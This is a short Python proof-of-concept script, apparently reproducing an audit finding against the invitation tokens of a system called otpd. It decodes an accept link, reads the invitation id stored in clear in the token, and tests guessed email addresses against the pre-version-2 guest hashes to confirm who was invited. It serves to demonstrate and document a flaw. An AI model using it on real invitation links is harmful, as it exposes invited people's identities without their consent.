#!/usr/bin/env python3
"""guess_guests.py - the offline attack of issue 10 finding 5, as an attacker
who holds only an accept link would run it (no key, no access to otpd).

Usage: guess_guests.py LINK ADDR...
Decodes the token from the link and, for each guessed address, computes the
guest hash the way tokens before version 2 made it: BLAKE2b-128 of the
normalised address keyed with the invitation id, which is in clear in the
token. Prints "version N guests M" and then, for each address, "match ADDR"
or "no-match ADDR". Exit status 0 when the token parsed, 2 otherwise.
"""
import base64
import hashlib
import sys


def main():
    link, guesses = sys.argv[1], sys.argv[2:]
    tok = link.split("/accept/", 1)[-1].split("/", 1)[0]
    try:
        b = base64.urlsafe_b64decode(tok + "=" * (-len(tok) % 4))
    except ValueError:
        print("undecodable")
        return 2
    version = b[0]
    # v1: version, kid 8, id 16, issued_at 8, ttl 4, n 1, guests 16n
    # v2: version, kid 8, guest key id 4, id 16, issued_at 8, ttl 4, n 1, guests 16n
    off = 1 + 8 + (4 if version >= 2 else 0)
    inv_id = b[off:off + 16]
    n = b[off + 16 + 12]
    start = off + 16 + 12 + 1
    hashes = {b[start + 16 * i:start + 16 * (i + 1)] for i in range(n)}
    print("version %d guests %d" % (version, n))
    for addr in guesses:
        h = hashlib.blake2b(addr.lower().encode(), key=inv_id, digest_size=16).digest()
        print(("match " if h in hashes else "no-match ") + addr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
